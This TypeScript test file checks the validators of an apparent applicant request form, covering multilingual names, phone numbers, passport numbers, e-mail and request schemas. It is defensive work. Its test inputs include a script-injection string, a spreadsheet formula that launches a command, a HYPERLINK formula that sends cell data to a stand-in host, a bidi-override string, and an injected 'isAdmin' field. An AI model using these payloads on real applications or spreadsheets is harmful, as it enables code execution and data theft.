// What applicants type, including what an attacker would type.
import { describe, expect, it } from "vitest";
import {
  cleanText,
  email,
  longText,
  passportNumber,
  personName,
  phone,
  shortText,
} from "../../../app/lib/requests/fields";
import { requestSchema, REQUEST_TYPES, stepSchema, stepsOf } from "../../../app/lib/requests/types";

const ok = (schema: { safeParse: (v: unknown) => { success: boolean; data?: unknown } }, value: string) =>
  schema.safeParse(value);
const error = (
  schema: { safeParse: (v: unknown) => { success: boolean; error?: { issues: { message: string }[] } } },
  value: string,
) => schema.safeParse(value).error?.issues[0]?.message;

describe("names", () => {
  it.each(["Anna Khan", "Анна Хан", "Ганна Хан", "عائشہ خان", "Muhammad Ali O'Neil", "Jean-Luc", "  Anna   "])(
    "accepts %s",
    (name) => {
      expect(ok(personName, name).success).toBe(true);
    },
  );
  it.each([
    ["Аnna (Cyrillic А)", "Аnna", "nameMixedScripts"],
    ["Latin о inside Cyrillic", "Иваноv", "nameMixedScripts"],
    ["digits", "Anna 2", "nameCharacters"],
    ["markup", "<script>alert(1)</script>", "nameCharacters"],
    ["a formula", "=cmd|' /C calc'!A0", "nameCharacters"],
    ["emoji", "Anna 😀", "nameCharacters"],
    ["empty", "   ", "required"],
    ["10,000 characters", "a".repeat(10_000), "tooLong"],
  ])("refuses %s", (_, name, message) => {
    expect(error(personName, name)).toBe(message);
  });
  it("removes bidi overrides and zero-width spaces, keeps the joiners Urdu needs", () => {
    expect(ok(personName, "\u202EAnna\u200B Khan").data).toBe("Anna Khan");
    expect(cleanText("می\u200Cخواهم")).toBe("می\u200Cخواهم");
  });
  it("normalizes to NFC", () => {
    expect(ok(personName, "Zoe\u0301").data).toBe("Zoé");
  });
});

describe("free text", () => {
  it("keeps a formula payload as text (it is escaped where exported, not refused)", () => {
    expect(ok(longText, '=HYPERLINK("http://x/?"&A1)').data).toBe('=HYPERLINK("http://x/?"&A1)');
  });
  it("refuses control characters and NUL", () => {
    expect(error(shortText, "a\u0000b")).toBe("invalidCharacters");
  });
});

describe("phone numbers", () => {
  it.each([
    ["0300 1234567", "+923001234567"],
    ["+92 300 1234567", "+923001234567"],
    ["۰۳۰۰۱۲۳۴۵۶۷", "+923001234567"],
    ["٠٣٠٠١٢٣٤٥٦٧", "+923001234567"],
    ["+375 29 123-45-67", "+375291234567"],
  ])("reads %s as %s", (typed, e164) => {
    expect(ok(phone, typed).data).toBe(e164);
  });
  it.each(["12345", "abc", "+92 300", "=1+1"])("refuses %s", (typed) => {
    expect(error(phone, typed)).toBe("phone");
  });
});

describe("passport numbers and e-mail", () => {
  it.each([
    ["mp 123-4567", "MP1234567"],
    ["AB۱۲۳۴۵۶۷", "AB1234567"],
  ])("normalizes %s to %s", (typed, canonical) => {
    expect(ok(passportNumber, typed).data).toBe(canonical);
  });
  it.each(["M1234567", "MP123456", "МР1234567", "MP12345678"])("refuses %s", (typed) => {
    expect(error(passportNumber, typed)).toBe("passport");
  });
  it("accepts and lowercases e-mail, refuses nonsense", () => {
    expect(ok(email, " Anna@Example.COM ").data).toBe("anna@example.com");
    expect(error(email, "anna@")).toBe("email");
  });
});

describe("request schemas", () => {
  it.each(REQUEST_TYPES)("%s: every step refuses an empty submission with a message per required field", (type) => {
    for (const step of stepsOf(type)) {
      const result = stepSchema(step).safeParse({});
      const required = step.fields.filter((f) => !f.optional).map((f) => f.name);
      expect(result.success).toBe(required.length === 0);
      if (!result.success) expect(new Set(result.error.issues.map((i) => i.path[0]))).toEqual(new Set(required));
    }
  });

  it("refuses unknown fields and a missing declaration in the API schema", () => {
    const result = requestSchema("general_inquiry").safeParse({
      subject: "Visa",
      message: "Hello",
      fullName: "Anna",
      phone: "03001234567",
      isAdmin: true,
    });
    expect(result.success).toBe(false);
    expect(result.error!.issues.map((i) => i.code).sort()).toEqual(["invalid_value", "unrecognized_keys"]);
  });
});
